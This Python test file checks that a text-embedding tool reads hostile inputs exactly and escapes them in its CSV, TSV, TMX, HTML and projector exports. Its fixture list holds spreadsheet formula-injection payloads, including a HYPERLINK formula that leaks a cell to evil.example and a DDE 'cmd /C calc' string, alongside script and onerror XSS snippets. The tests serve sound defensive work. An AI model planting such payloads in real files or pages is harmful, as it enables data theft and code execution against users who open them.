"""Hostile inputs through the real views and every export (issue 8, build item 5): formula
prefixes, quotes, carriage returns, control characters, zero-width-only lines, RTL text, very
long cells and HTML/script snippets are read exactly, and each export (CSV, TSV, TMX, NPY, HTML)
opens back — with the csv module, xml.etree, numpy and html.parser, not with e5ui — and matches
the view's result cell by cell."""

from __future__ import annotations

import csv
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import numpy as np
import pytest

from e5ui import textio, views
from e5ui.analysis.calibration import baseline_from_embeddings
from tests.conftest import FakeEncoder

LONG = "Lorem ipsum dolor sit amet, " * 2000  # ~56k characters in one cell
# (raw line in the user's file, the text e5ui must read from it)
HOSTILE = [
    ("=1+1", "=1+1"),
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '=HYPERLINK("http://evil.example/?"&A1,"click")'),  # noqa: E501
    ("+SUM(A1:A9)", "+SUM(A1:A9)"),
    ("-2+3+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1,2)", "@SUM(1,2)"),
    ("'=already neutral", "'=already neutral"),
    ("-0.5", "-0.5"),
    ('He said "hi", then left', 'He said "hi", then left'),
    ('"A quotation that never closes', '"A quotation that never closes'),
    ('and one that only closes"', 'and one that only closes"'),
    ("carriage\rreturn", "carriage return"),
    ("form\ffeed and vertical\vtab", "form feed and vertical tab"),
    ("line\u2028separator, paragraph\u2029separator", "line separator, paragraph separator"),
    ("next\x85line and \x1cfile\x1dgroup\x1erecord", "next line and  file group record"),
    ("bell\x07 and delete\x7f", "bell  and delete"),
    ("\u200b", None),
    ("\u200c\u200d", None),
    ("  \u2060\ufeff  ", None),
    ("", None),
    ("שלום עולם", "שלום עולם"),
    ("مرحبا بالعالم", "مرحبا بالعالم"),
    ("می\u200cخواهم", "می\u200cخواهم"),
    ("bidi \u202eevil\u202c override", "bidi \u202eevil\u202c override"),
    ("\U0001f468\u200d\U0001f469\u200d\U0001f467 family", "\U0001f468\u200d\U0001f469\u200d\U0001f467 family"),  # noqa: E501
    ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("</script><script>alert(2)</script>", "</script><script>alert(2)</script>"),
    ("<img src=x onerror=alert(3)>", "<img src=x onerror=alert(3)>"),
    ("&lt;b&gt; &amp; ]]> <!-- x -->", "&lt;b&gt; &amp; ]]> <!-- x -->"),
    ("tab\tinside", "tab\tinside"),
    (LONG, LONG.strip()),
]
TEXTS = [text for _, text in HOSTILE if text is not None]
FORMULA = "=+-@\t\r\n"
NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def shown(value) -> str:
    """The documented cell for a value, written independently of textio."""
    if value is None or (isinstance(value, float) and value != value):
        return ""
    if isinstance(value, (float, np.floating)):
        return f"{float(value):.6f}"
    if isinstance(value, (int, np.integer)):
        return str(int(value))
    if value[:1] and value[0] in FORMULA and not NUMBER.fullmatch(value):
        return "'" + value
    return value


def read_csv(path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.reader(f, delimiter="\t" if str(path).endswith(".tsv") else ","))


def check_table(path, table: views.Table) -> None:
    """Every cell of an export equals the view's table cell, formatted as documented."""
    back = read_csv(path)
    assert back[0] == table.header
    assert len(back) == len(table.rows) + 1  # no row split by "\r" or merged by a quote
    for got, row in zip(back[1:], table.rows):
        assert got == [shown(v) for v in row]


class Tags(HTMLParser):
    """Counts the start tags of an HTML page as a browser's tokenizer sees them."""

    def __init__(self, page: str):
        super().__init__()
        self.counts: dict[str, int] = {}
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.counts[tag] = self.counts.get(tag, 0) + 1


def check_html(path, benign_path) -> None:
    """No text breaks out of the figure's JSON: the page has exactly the tags a page of benign
    texts has (an injected <script> or <img> would add one)."""
    hostile = Tags(path.read_text(encoding="utf-8")).counts
    benign = Tags(benign_path.read_text(encoding="utf-8")).counts
    assert hostile == benign


@pytest.fixture(scope="module")
def enc():
    return FakeEncoder()


@pytest.fixture(scope="module")
def base(enc):
    return baseline_from_embeddings(enc.encode([f"t{i}" for i in range(40)]), "fake")


@pytest.fixture(scope="module")
def files(tmp_path_factory):
    """The hostile texts as a user's .txt and .tsv files (the TSV written by the csv module,
    as a spreadsheet would: quoted where needed), with hostile ids, labels and languages."""
    folder = tmp_path_factory.mktemp("hostile")
    txt = folder / "hostile.txt"
    txt.write_bytes("\n".join(raw for raw, _ in HOSTILE).encode("utf-8") + b"\n")
    tsv = folder / "hostile.tsv"
    with open(tsv, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, delimiter="\t", lineterminator="\r\n")
        w.writerow(["id", "text", "label", "lang"])
        for i, (raw, _) in enumerate(HOSTILE):
            w.writerow([f"=id{i}" if i % 3 == 0 else f"-{i}", raw, "@label" if i % 2 else
                        '"><x', "xx"])
    return folder, txt, tsv


def test_hostile_inputs_are_read_exactly(files):
    _, txt, tsv = files
    blank = [i for i, (_, text) in enumerate(HOSTILE) if text is None]
    for corpus in (textio.read_texts(txt), textio.read_texts(tsv)):
        assert corpus.texts == TEXTS
        assert corpus.skipped == blank
        assert corpus.rows == [i for i, (_, t) in enumerate(HOSTILE) if t is not None]
        notes = " ".join(corpus.notes())
        assert f"skipped {len(blank)} blank" in notes and "replaced by a space" in notes
    assert corpus.ids[0] == "=id0" and corpus.labels[:2] == ['"><x', "@label"]


def test_similarity_exports(files, enc, base):
    folder, _, tsv = files
    corpus = textio.read_texts(tsv)
    result = views.similarity_view(enc, corpus, "input", baseline=base)
    labels = [result.labels[i] for i in result.order]
    matrix = result.matrix()
    for suffix in (".csv", ".tsv"):
        back = read_csv(result.write(folder / f"matrix{suffix}"))
        assert len(back) == len(labels) + 1
        assert back[0] == ["", *map(shown, labels)]
        assert [row[0] for row in back[1:]] == [shown(label) for label in labels]
        for row, values in zip(back[1:], matrix):
            assert row[1:] == [f"{float(v):.6f}" for v in values]
        result.top.write(folder / f"top{suffix}")
        check_table(folder / f"top{suffix}", result.top)
    assert any(label.startswith("=id0") for label in labels)
    np.testing.assert_array_equal(np.load(result.write(folder / "emb.npy")), result.embeddings)
    benign = views.similarity_view(enc, textio.parse_lines("\n".join(
        f"plain text {i}" for i in range(len(corpus)))), "input", baseline=base)
    check_html(result.write(folder / "heatmap.html"), benign.write(folder / "benign.html"))


def test_neighbours_exports(files, enc, base):
    folder, txt, tsv = files
    queries, corpus = textio.read_texts(txt), textio.read_texts(tsv)
    result = views.neighbours_view(enc, queries, corpus, k=3, margin=True, baseline=base)
    assert len(result.table) == 3 * len(queries)
    for suffix in (".csv", ".tsv"):
        check_table(result.write(folder / f"neighbours{suffix}"), result.table)
    texts = {row[-1] for row in result.table.rows} | {row[-2] for row in result.table.rows}
    assert texts <= set(TEXTS)


def test_map_exports(files, enc, base):
    folder, _, tsv = files
    corpus = textio.read_texts(tsv)
    result = views.map_view(views.map_data(enc, corpus), "pca")
    for suffix in (".csv", ".tsv"):
        path = result.write(folder / f"coords{suffix}")
        check_table(path, result.table)
        # coords files have a text column: textio reads its own export back, row by row.
        again = textio.read_texts(path)
        assert again.texts == [shown(t) for t in TEXTS] and again.rows == list(range(len(TEXTS)))
        assert again.ids == [shown(i) for i in corpus.ids]
    benign = views.map_view(views.map_data(enc, textio.parse_lines("\n".join(
        f"plain text {i}" for i in range(len(corpus))))), "pca")
    check_html(result.write(folder / "map.html"), benign.write(folder / "benign-map.html"))


def test_bitext_exports(files, enc, base):
    folder, txt, tsv = files
    source, target = textio.read_texts(txt), textio.read_texts(tsv)
    result = views.bitext_view(enc, source, target, method="cosine", src_lang="xx",
                               tgt_lang=None)
    assert len(result.matching.pairs) == len(TEXTS)  # equal texts get equal vectors
    for suffix in (".csv", ".tsv"):
        check_table(result.write(folder / f"pairs{suffix}"), result.table)
    tmx = ET.parse(result.write(folder / "pairs.tmx")).getroot()
    units = tmx.find("body").findall("tu")
    assert len(units) == len(result.matching.pairs)
    lang = "{http://www.w3.org/XML/1998/namespace}lang"
    for tu, pair in zip(units, result.matching.pairs):
        props = {p.get("type"): p.text for p in tu.findall("prop")}
        assert props["x-source-line"] == str(source.rows[pair.src])
        assert props["x-target-line"] == str(target.rows[pair.tgt])
        (s_tuv, t_tuv) = tu.findall("tuv")
        # TMX is exact: no formula prefix, every character as read.
        assert s_tuv.find("seg").text == source.texts[pair.src]
        assert t_tuv.find("seg").text == target.texts[pair.tgt]
        assert (s_tuv.get(lang), t_tuv.get(lang)) == ("xx", "xx")


def test_pasted_hostile_text(tmp_path, enc, base):
    # The text box can carry what a file cannot: NUL, lone surrogates, non-characters.
    pasted = "nul\x00byte\n\ud800 lone\n=1+1\r\nnon\uffffchar\n\u200b\n"
    corpus = textio.read_input(pasted, None, "text list", 100, 1000)
    assert corpus.texts == ["nul byte", "\ufffd lone", "=1+1", "non\ufffdchar"]
    assert corpus.skipped == [4]
    result = views.map_view(views.map_data(enc, corpus), "pca")
    check_table(result.write(tmp_path / "coords.csv"), result.table)
    bitext = views.bitext_view(enc, corpus, corpus, src_lang="en", tgt_lang="de")
    segs = [s.text for s in ET.parse(bitext.write(tmp_path / "p.tmx")).iter("seg")]
    assert sorted(segs) == sorted(corpus.texts * 2)


def read_projector_metadata(path) -> list[dict[str, str | None]]:
    """metadata.tsv as the TensorFlow Embedding Projector reads it (its parseMetadata): lines
    split on "\\n" only, blank lines skipped, a first line with a tab is the header, cells
    split on tabs with no quoting, an empty cell is missing."""
    lines = [line for line in path.read_bytes().decode("utf-8").split("\n") if line.strip()]
    names = lines[0].split("\t")
    return [{name: (cells[k] if k < len(cells) and cells[k] != "" else None)
             for k, name in enumerate(names)}
            for cells in (line.split("\t") for line in lines[1:])]


def test_projector_exports(files, enc, base):
    folder, _, tsv = files
    corpus = textio.read_texts(tsv)
    result = views.map_view(views.map_data(enc, corpus), "pca")
    out = folder / "projector"
    out.mkdir()
    vectors, metadata = result.write_projector(out)
    points = np.loadtxt(vectors, delimiter="\t", dtype=np.float32, ndmin=2)
    meta = read_projector_metadata(metadata)
    assert len(meta) == len(points) == len(TEXTS)  # one row per vector, none split or lost
    keep = [k for k, name in enumerate(result.table.header) if name not in ("x", "y", "z")]
    assert list(meta[0]) == [result.table.header[k] for k in keep]
    for got, row in zip(meta, result.table.rows):
        # The documented cell (formula prefix and all), with the tabs and line breaks the
        # projector cannot hold made spaces.
        want = [re.sub(r"[\t\r\n]", " ", shown(row[k])) or None for k in keep]
        assert list(got.values()) == want
    texts = [m["text"] for m in meta]
    assert "'=1+1" in texts and "'@SUM(1,2)" in texts and "tab inside" in texts
    assert "-0.5" in texts and "=1+1" not in texts
    assert {m["id"] for m in meta} >= {"'=id0", "-1"} and "@label" not in {m["label"] for m in meta}
